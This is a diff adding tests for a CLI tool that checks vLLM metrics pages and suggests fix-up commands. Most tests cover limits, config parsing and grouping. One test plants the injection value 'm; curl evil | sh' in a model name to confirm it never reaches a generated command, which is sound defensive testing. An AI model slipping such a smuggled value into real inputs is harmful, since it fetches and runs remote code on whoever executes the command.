@@ -6,6 +6,7 @@ import os
 import pty
 import re
 import select
+import shutil
 import signal
 import subprocess
 import tempfile
@@ -13,6 +14,8 @@ import time
 
 import pages
 from program import PROGRAM, CliTest, goodput, main
+
+HEALTHY = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../demo/healthy")
 
 
 class Case(CliTest):
@@ -152,6 +155,25 @@ class Pages(Case):
         broken = self.document(self.path("broken.prom"))
         self.assertEqual((broken["targets"][0]["outcome"], broken["targets"][0]["dropped_lines"]), ("partial", 1))
 
+    def test_hostile_names_do_not_reach_a_command(self):
+        folder = self.path("rec")
+        shutil.copytree(os.path.join(os.path.dirname(__file__), "../../demo/trouble"), folder)
+        for name in os.listdir(folder):
+            with open(os.path.join(folder, name), encoding="utf-8") as f:
+                self.path(f"rec/{name}", f.read().replace("acme/chat-14b", "m; curl evil | sh"))
+        d = self.document(folder)
+        commands = [a["command"] for f in d["findings"] for a in f["actions"] if "command" in a]
+        self.assertTrue(any("vllm serve MODEL " in c for c in commands), commands)
+        self.assertFalse([c for c in commands if "evil" in c])
+
+    def test_size_limit(self):
+        big = self.path("big.prom", pages.vllm_page(100) + "# " + "x" * 100000 + "\n")
+        self.assertEqual(goodput("check", big).status, 0)
+        result = goodput("check", big, "--max-body", "64KiB")
+        self.assertEqual(result.status, 65)
+        self.assertIn("above the limit of 65536", result.err)
+        self.assertIn("--max-body", result.err)
+
     def test_many_series_of_one_gauge_are_all_summed(self):
         page = "# TYPE vllm:num_requests_running gauge\n" + "".join(
             f'vllm:num_requests_running{{engine="0",model_name="m{i}"}} 1\n' for i in range(1000))
@@ -209,6 +231,20 @@ class Live(Case):
                 self.assertEqual(d["targets"][0]["outcome"], outcome)
                 self.assertIn("advice", d["targets"][0])
 
+    def test_commands_know_where_the_page_is(self):
+        with pages.Server(lambda path, count: (401, "text/plain", "no")) as server:
+            for path in ("/metrics", "/prometheus/metrics", "/stats"):
+                d = self.document(f"http://{server.address}{path}", "--window", "1s", status=3)
+                partial = next(f for f in d["findings"] if f["id"] == "scrape-partial")
+                self.assertTrue(partial["actions"][0]["command"].endswith(f" http://{server.address}{path}"), partial["actions"][0])
+
+    def test_answers_of_one_kind_are_grouped(self):
+        with pages.Server(lambda path, count: (int(path[1:4]), "text/plain", "no")) as server:
+            targets = [f"http://{server.address}/{status}/{i}" for status in (500, 502) for i in range(2)]
+            text = " ".join(goodput("check", *targets, "--window", "1s").out.split())
+            self.assertIn("500/1: HTTP 500", text)
+            self.assertIn("502/1: HTTP 502", text)
+
     def test_timeout(self):
         with pages.Server(pages.slow) as server:
             d = self.document(server.address, "--window", "1s", "--timeout", "300ms", status=3)
@@ -231,11 +267,16 @@ class Live(Case):
     def test_config(self):
         with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
             config = ("scrape_configs:\n- job_name: llm\n  static_configs:\n  - targets: [%s]\n    labels: {zone: a}\n"
-                      "- job_name: k8s\n  kubernetes_sd_configs: [{role: pod}]\n" % server.address)
+                      "- job_name: k8s\n  kubernetes_sd_configs: [{role: pod}]\n  relabel_configs: []\n  scrape_interval: 15s\n" % server.address)
             result = goodput("check", "--config", self.path("goodput.yaml", config), "--json", "--window", "1s")
             self.assertIn("kubernetes_sd_configs", result.err)
+            self.assertIn("relabel_configs is not read", result.err)
+            self.assertNotIn("scrape_interval", result.err)
             self.assertEqual(json.loads(result.out)["targets"][0]["name"], server.address)
         self.failed(goodput("check", "--config", self.path("bad.yaml", "scrape_configs: [\n")), 65, "bad.yaml")
+        for labels in ("[a]", "{a: [b]}", "text", "{%s}" % ", ".join(f"l{i}: x" for i in range(70))):
+            text = "scrape_configs:\n- job_name: a\n  static_configs:\n  - targets: [x:1]\n    labels: %s\n" % labels
+            self.failed(goodput("check", "--config", self.path("bad.yaml", text)), 65, "bad.yaml:5", "labels")
         self.failed(goodput("check", "x:1", "--catalog", self.path("cat.yaml", "signals:\n- id: a\n  expr: nosuch(\n")), 65, "cat.yaml:3")
         self.failed(goodput("check", "x:1", "--pools", self.path("pools.yaml", "pools:\n- nam: x\n")), 65, "pools.yaml:2")
 
@@ -348,6 +389,16 @@ class Record(Case):
             self.assertIn("replaced: 1 model names; labels left as they are: ", result.err)
             self.assertIn("finished_reason", result.err)
 
+    def test_targets_that_differ_by_path(self):
+        with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
+            folder = self.path("paths")
+            targets = [f"http://{server.address}/{name}/metrics" for name in ("chat", "embed")]
+            recorded = goodput("record", folder, *targets, "--every", "1s", "--for", "1s")
+            self.assertEqual(recorded.status, 0, recorded.err)
+            d = self.document(folder)
+            self.assertEqual(len(d["targets"]), 2)
+            self.assertNotIn("embed", json.dumps(d))
+
     def test_verbose(self):
         with pages.Server(lambda path, count: (200, "text/plain", pages.vllm_page(100 + count))) as server:
             result = goodput("record", self.path("rec"), server.address, "--for", "0", "--verbose")
@@ -421,6 +472,27 @@ class Signals(Case):
         self.assertIn("quantile(0.99, ttft)", text)
         d = json.loads(goodput("signals", "ttft_p99", "--json").out)
         self.assertEqual((len(d["signals"]), d["signals"][0]["unit"]), (1, "s"))
+
+    def test_success_policy_of_a_pool(self):
+        mine = self.path("pools.yaml", "pools:\n- {name: strict, match: {model: 'acme/.*'}, success: stop}\n")
+        run = goodput("check", HEALTHY, "--catalog", mine)
+        self.assertIn("[success is stop]", run.out)
+        d = json.loads(goodput("check", HEALTHY, "--catalog", mine, "--json").out)
+        fleet = d["scopes"][0]["readings"]
+        self.assertLess(fleet["policy_success_rate"]["value"], fleet["success_rate"]["value"])
+        self.assertAlmostEqual(fleet["policy_success_rate"]["value"], fleet["stop_rate"]["value"])
+
+    def test_conditions_in_promql(self):
+        mine = self.path("mine.yaml", "signals:\n- {id: mine, expr: 'count(finished{finished_reason=\"sto[pq]\"}) + count(finished{finished_reason=\"a\\.b\"})'}\n")
+        text = goodput("signals", "--promql", "mine", "--catalog", mine, self.path("a.prom", pages.vllm_page(1))).out
+        self.assertIn('{finished_reason=~"sto[pq]"}', text)
+        self.assertIn('{finished_reason="a.b"}', text)
+
+    def test_findings_as_json(self):
+        d = json.loads(goodput("signals", "kv-thrash", "--json").out)
+        self.assertEqual((d["signals"], [f["id"] for f in d["findings"]]), ([], ["kv-thrash"]))
+        self.assertIn("kv-pressure", d["findings"][0]["suppresses"])
+        self.assertNotIn("findings", json.loads(goodput("signals", "ttft_p99", "--json").out))
 
     def test_bound(self):
         page = self.path("a.prom", pages.vllm_page(1))
